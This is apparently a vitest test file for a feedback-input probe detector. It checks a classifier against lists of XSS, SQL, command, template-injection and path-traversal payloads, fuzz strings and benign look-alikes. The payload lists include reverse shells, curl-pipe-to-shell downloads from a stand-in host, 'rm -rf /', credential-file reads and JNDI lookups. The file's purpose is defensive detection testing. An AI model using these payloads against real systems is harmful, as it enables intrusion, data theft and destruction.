import { describe, expect, it } from 'vitest'
import type { ProbeClass } from '@exocorp/shared/feedback'
import { classifyRefusal, classifyText, PROBE_RULES, redactSample } from '../src/services/signals/probe-rules'

/*
 * The probe rule set against real payloads (PayloadsAllTheThings, OWASP testing guide, scanner
 * traffic seen in the wild) and benign inputs chosen to look close. Precision and recall are
 * printed; the test fails on any benign input classified, and on any payload missed.
 */

const PAYLOADS: Record<ProbeClass, string[]> = {
  script: [
    '<script>alert(1)</script>',
    '"><script>alert(document.domain)</script>',
    '<ScRiPt src=//evil.example/x.js></sCrIpT>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '<body onload=alert("xss")>',
    '<iframe src="javascript:alert(1)"></iframe>',
    'javascript:alert(document.cookie)',
    '<a href="javascript:void(0)">x</a>',
    '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '<details open ontoggle=alert(1)>',
    "<input autofocus onfocus=alert('x')>",
    '<video><source onerror="alert(1)">',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<div style="width: expression(alert(1))">',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<svg><script>alert(1)</script></svg>',
    "'-alert(String.fromCharCode(88,83,83))-'",
    '<math><a xlink:href="javascript:alert(1)">x',
    '<marquee onstart=alert(1)>',
    '<embed src="javascript:alert(1)">',
    '%253Cscript%253Ealert(1)%253C/script%253E',
    '<base href="//evil.example/">',
  ],
  command: [
    '; cat /etc/passwd',
    '| id',
    '&& whoami',
    '|| uname -a',
    '`id`',
    '$(whoami)',
    '; sleep 10',
    '| ping -c 10 127.0.0.1',
    '& ping -n 10 127.0.0.1 &',
    '; wget http://evil.example/x.sh',
    '; curl http://evil.example/s | sh',
    'a;id;',
    'test$(sleep 5)',
    '; nc -e /bin/sh 10.0.0.1 4444',
    'bash -i >& /dev/tcp/10.0.0.1/8080 0>&1',
    ';${IFS}cat${IFS}/etc/passwd',
    '| nslookup attacker.example',
    '& cmd.exe /c dir',
    '; rm -rf /',
    '%3B%20id',
    '`cat /etc/shadow`',
    '&& powershell -enc SQBFAFgA',
    '; python -c "import os"',
    '|| /bin/sh',
  ],
  sql: [
    "' OR '1'='1",
    "' OR 1=1--",
    '" OR ""="',
    "admin'--",
    "admin' #",
    "') OR ('a'='a",
    '1 OR 1=1',
    "1' AND 1=1 --",
    "'; DROP TABLE users; --",
    "' UNION SELECT NULL,NULL,NULL--",
    '1 UNION ALL SELECT 1,2,3--',
    "' UNION SELECT @@version --",
    "1' AND SLEEP(5)#",
    "'; WAITFOR DELAY '0:0:5'--",
    '1) OR pg_sleep(5)--',
    "' AND extractvalue(1,concat(0x7e,version()))--",
    "'; EXEC xp_cmdshell('dir'); --",
    "1' ORDER BY 1--",
    '%27%20OR%201%3D1--',
    "' || '1'='1",
    '1/**/UNION/**/SELECT/**/null,null--',
    "' UNION SELECT table_name FROM information_schema.tables--",
    "x' AND BENCHMARK(5000000,MD5(1))#",
    "1'; SELECT pg_sleep(5)--",
  ],
  template: [
    '{{7*7}}',
    '${7*7}',
    '#{7*7}',
    '<%= 7*7 %>',
    '{{config.items()}}',
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    '{{self.__init__.__globals__}}',
    '${T(java.lang.Runtime).getRuntime().exec("id")}',
    '${jndi:ldap://evil.example/a}',
    '#set($x = 7*7)${x}',
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    '{{constructor.constructor("return process")()}}',
    '{php}echo `id`;{/php}',
    '{{_self.env.registerUndefinedFilterCallback("exec")}}',
    '*{7*7}',
    '{{ cycler.__init__.__globals__.os.popen("id").read() }}',
    '{{config}}',
    '${{7*7}}',
    '{{request.application.__globals__}}',
    '{{ lipsum.__globals__ }}',
    '@(7*7)',
    '[[7*7]]',
    '{system("id")}',
    '${env:AWS_SECRET_ACCESS_KEY}',
  ],
  path: [
    '../../../etc/passwd',
    '..\\..\\..\\windows\\win.ini',
    '/etc/passwd',
    '....//....//....//etc/passwd',
    '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    '..%2f..%2f..%2fetc%2fpasswd',
    '%252e%252e%252fetc%252fpasswd',
    '..%c0%af..%c0%afetc%c0%afpasswd',
    '../../../../../../../../boot.ini',
    '/proc/self/environ',
    'file:///etc/shadow',
    '../../../../../../',
    '..;/..;/admin',
    'C:\\windows\\system32\\drivers\\etc\\hosts',
    '../../.ssh/id_rsa',
    'php://filter/convert.base64-encode/resource=index.php',
    '..%5c..%5c..%5cwindows%5cwin.ini',
    '/../../../../WEB-INF/web.xml',
    '%2e%2e/%2e%2e/etc/hosts',
    '..\\..\\..\\..\\..\\',
    'images/../../../../etc/group',
    '.%2e/.%2e/.%2e/etc/issue',
  ],
  fuzz: [
    'A'.repeat(5000),
    '\u0000\u0000\u0000',
    'abc\u0000def',
    '%s%s%s%s%s%s',
    '%n%n%n%n',
    '%x%x%x%x',
    '%08x.%08x.%08x.%08x',
    '\u0001\u0002\u0003\u0004\u0005',
    'text\u001b[31mred',
    '\uFFFD\uFFFD\uFFFD\uFFFD',
    'lone \uD800 surrogate',
    '9'.repeat(400),
    '\u202E'.repeat(20),
    '\u200B'.repeat(100),
    '{'.repeat(80),
    '%'.repeat(300),
    '\b\b\b\b',
    '😀'.repeat(2000),
    'x'.repeat(70_000),
    '%00',
    'name\u007f\u007f',
    '[]'.repeat(40),
  ],
}

const BENIGN = [
  // A SQL tutorial, sentence by sentence
  'SELECT name, email FROM users WHERE id = 1;',
  'Use UNION to combine the rows of two SELECT statements with the same columns.',
  'SELECT * FROM orders o JOIN customers c ON c.id = o.customer_id ORDER BY o.created_at DESC;',
  'To remove a table use DROP TABLE, but be careful: it cannot be undone.',
  "INSERT INTO notes (body) VALUES ('hello');",
  'The WHERE clause filters rows; OR and AND combine conditions.',
  'UPDATE accounts SET balance = balance - 10 WHERE id = 42;',
  "Strings go in single quotes: WHERE name = 'Ada'",
  '-- this is a SQL comment',
  'SELECT count(*) FROM information_schema.tables;',
  // Paths with dots
  '../README.md',
  './scripts/start.sh',
  'import { api } from "../../lib/api"',
  'web/src/app/routes/admin/admin-users.tsx',
  'v1.2.3 → v1.3.0',
  '/usr/local/bin/node',
  'C:\\Users\\ada\\Documents\\report.pdf',
  '../../../shared/src/feedback.ts',
  'see docs/decisions/030-live-event-stream.md',
  '~/.config/exocorp/config.yaml',
  'https://example.com/a/b/../c?x=1&y=2',
  // Code in feedback
  'The agents list breaks when I run `pnpm build && ls dist` first.',
  'In my template I use {{ user.name }} and it renders empty.',
  'const total = items.reduce((a, b) => a + b, 0)',
  'if (a && b || c) { return x }',
  'My config has `${HOME}/data` as the data dir',
  'The button calls alert("saved") but nothing shows',
  'Please support <b>bold</b> in agent descriptions',
  'function onLoad() { init() }',
  'echo "hello" | grep h',
  'The JSON was {"a": [1, 2, {"b": null}]}',
  'x = 7 * 7 gives 49 as expected',
  'Use <ComponentName onClick={handler} /> in React',
  'a | b | c table header in markdown',
  // Ordinary feedback
  "It's 'broken' -- again? The save button doesn't work.",
  'Love the new dashboard! 🎉',
  'Could you add dark mode to the billing page?',
  'The provisioning took 3 minutes; expected ~1.',
  'Email me at ada@example.com when it is fixed',
  'Price went from $10 to $12 — why?',
  'I clicked "Save" and got an error: 500 Internal Server Error',
  'ID 1234 is missing from the list; id 5 too.',
  '100% of my agents are paused',
  'Format: %Y-%m-%d',
  'Great job!!!!',
  'JavaScript: The Good Parts is a good book',
  'The or/and filter is confusing: status = running or paused',
  "Names like O'Brien and D'Angelo fail validation",
  'Windows path: C:\\Program Files\\Exocorp',
  'We need sleep mode for agents at night',
  'ping me when the cron job at 0 * * * * runs',
  'name: "Ada"; role: "CEO"; model: gpt-4o',
  '=====================',
  'Ünïcödé names like Zoë and 山田 should work',
  'cat photos are what my agents generate',
  'whoami page would be nice (profile)',
]

describe('probe rules', () => {
  it('recognise every payload of every class, classify no benign input, and report precision/recall', () => {
    let tp = 0
    let fn = 0
    let fp = 0
    const missed: string[] = []
    for (const [cls, list] of Object.entries(PAYLOADS) as [ProbeClass, string[]][]) {
      expect(list.length, cls).toBeGreaterThanOrEqual(20)
      for (const payload of list) {
        const classes = classifyText(payload).map((m) => m.probeClass)
        if (classes.includes(cls)) tp++
        else {
          fn++
          missed.push(`${cls}: ${JSON.stringify(payload.slice(0, 80))} → ${classes.join(',') || 'nothing'}`)
        }
      }
    }
    expect(BENIGN.length).toBeGreaterThanOrEqual(50)
    const flagged: string[] = []
    for (const text of BENIGN) {
      const m = classifyText(text)
      if (m.length) {
        fp++
        flagged.push(`${JSON.stringify(text)} → ${m.map((x) => x.rule).join(',')}`)
      }
    }
    const precision = tp / (tp + fp)
    const recall = tp / (tp + fn)
    console.info(
      `probe rules: ${tp} payloads recognised, ${fn} missed, ${fp} of ${BENIGN.length} benign flagged; precision ${precision.toFixed(3)}, recall ${recall.toFixed(3)}`,
    )
    expect({ flagged, missed }).toEqual({ flagged: [], missed: [] })
  })

  it('each rule has a class, an id and a description', () => {
    const ids = new Set(PROBE_RULES.map((r) => r.id))
    expect(ids.size).toBe(PROBE_RULES.length)
    for (const r of PROBE_RULES) expect(r.describes.length).toBeGreaterThan(5)
  })

  it('a refusal by itself shows fuzz: oversized, binary or malformed bodies', () => {
    expect(classifyRefusal({ status: 413, bodyBytes: 300_000 })?.probeClass).toBe('fuzz')
    expect(classifyRefusal({ status: 415, contentType: 'application/octet-stream', bodyBytes: 10 })?.rule).toBe(
      'fuzz-binary-body',
    )
    expect(classifyRefusal({ status: 400, code: 'bad_request', bodyBytes: 5 })?.rule).toBe('fuzz-malformed-json')
    expect(classifyRefusal({ status: 400, code: 'validation_failed', bodyBytes: 5 })).toBeNull()
    expect(classifyRefusal({ status: 404, bodyBytes: 0 })).toBeNull()
  })

  it('samples are capped and masked', () => {
    const s = redactSample(`token=sk-live-${'a'.repeat(40)} from ada@example.com \u0000 ${'x'.repeat(400)}`)
    expect(s).not.toContain('sk-live')
    expect(s).not.toContain('ada@example.com')
    expect(s).toContain('\\x00')
    expect(s.length).toBeLessThan(260)
  })
})
